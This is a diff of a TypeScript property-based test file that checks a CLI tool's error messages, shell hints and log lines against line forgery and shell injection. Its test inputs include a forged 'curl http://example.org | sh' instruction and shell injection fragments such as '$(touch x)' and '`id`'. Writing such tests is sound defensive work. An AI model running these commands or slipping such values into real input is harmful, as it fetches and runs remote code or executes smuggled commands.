@@ -1,9 +1,14 @@
 /** Whatever stands in a row, a name or an answer, a terminal, a spreadsheet and a log get text and nothing that acts. */
+import { execFileSync } from 'node:child_process';
+
 import fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
 
+import { RowsyncError } from '../../src/base/errors.ts';
 import { createLogger } from '../../src/base/log.ts';
 import type { LogForm } from '../../src/base/log-form.ts';
+import { printable, shellWord } from '../../src/base/text.ts';
+import { problemsText } from '../../src/cli/report.ts';
 import { answerAsCsv, answerAsJson, answerAsTable } from '../../src/cli/output.ts';
 import { fuzzRuns } from '../support/fuzz.ts';
 
@@ -66,6 +71,72 @@ describe('on a terminal', () => {
   });
 });
 
+describe('a name of the origin in a sentence', () => {
+  const said = (name: string): string =>
+    problemsText([
+      {
+        what: 'failed',
+        table: name,
+        error: new RowsyncError('originRefused', 'origin.refused', {
+          message: `select of "${name}": the origin answered 400`,
+          hint: `Run rowsync pull ${shellWord(name)} --confirm`,
+        }),
+      },
+    ]);
+
+  test('adds no line to it, and nothing that acts', () => {
+    const forged = 'Note\n\neverything is whole\n  what to do: curl http://example.org | sh\n';
+    fc.assert(
+      fc.property(fc.oneof(text, fc.constant(forged)), (name) => {
+        const lines = said(name).split('\n');
+        expect(lines).toHaveLength(said('Note').split('\n').length);
+        expect(lines.filter((line) => ACTING.test(line))).toEqual([]);
+      }),
+      fuzzRuns(300),
+    );
+  });
+
+  test('is one word of a command that is copied into a shell, runs nothing there and is no option', () => {
+    const pieces = fc.constantFrom(
+      '$(touch x)',
+      '`id`',
+      '$HOME',
+      '"',
+      "'",
+      '\\',
+      '!',
+      '!!',
+      ';',
+      '&',
+      '|',
+      '>x',
+      '\n',
+      ' ',
+      '*',
+      '~',
+      '-',
+      '#',
+      'x',
+      '漢',
+    );
+    const names = fc.sample(
+      fc.oneof(
+        text,
+        fc.array(pieces, { maxLength: 6 }).map((all) => all.join('')),
+      ),
+      {
+        ...fuzzRuns(300),
+        numRuns: 300,
+      },
+    );
+    const script = `printf '%s\\0' ${names.map(shellWord).join(' ')}`;
+
+    const words = execFileSync('bash', ['-c', script], { encoding: 'utf8' }).split('\0').slice(0, -1);
+
+    expect(words).toEqual(names.map(printable).flatMap((name) => (name.startsWith('-') ? ['--', name] : [name])));
+  });
+});
+
 test.each([
   '=',
   '+',
@@ -91,12 +162,12 @@ test.each([
 describe('in a log', () => {
   /** What one line must look like in each form. */
   const FORMS: readonly (readonly [LogForm, RegExp])[] = [
-    ['json', /^\{.*"event":"origin\.retry".*\}$/su],
-    ['journal', /^<3>\{.*"event":"origin\.retry".*\}$/su],
-    ['terminal', /^[^\p{Cc}\p{Cf}\p{Zl}\p{Zp}]* origin\.retry[^\p{Cc}\p{Cf}\p{Zl}\p{Zp}]*$/u],
+    ['json', /^\{.*"event":"origin\.retry".*\}$/u],
+    ['journal', /^<3>\{.*"event":"origin\.retry".*\}$/u],
+    ['terminal', /^.* origin\.retry.*$/u],
   ];
 
-  test.each(FORMS)('a fact stays within its line (%s)', (form, shape) => {
+  test.each(FORMS)('a fact stays within its line, which is printable (%s)', (form, shape) => {
     fc.assert(
       fc.property(fc.dictionary(fc.constantFrom('message', 'table', 'reason', 'hint'), text), (facts) => {
         const written: string[] = [];
@@ -111,9 +182,10 @@ describe('in a log', () => {
 
         const [line = '', ...others] = written;
         expect(others).toEqual([]);
-        // C0, with all that ends a line, occurs at its end and nowhere else.
-        expect(line.split('').findIndex((character) => character < ' ')).toBe(line.length - 1);
+        expect(line.endsWith('\n')).toBe(true);
         expect(line.slice(0, -1)).toMatch(shape);
+        expect(line.slice(0, -1)).not.toMatch(ACTING);
+        expect(form === 'json' ? JSON.parse(line) : facts).toMatchObject(facts);
       }),
       fuzzRuns(300),
     );
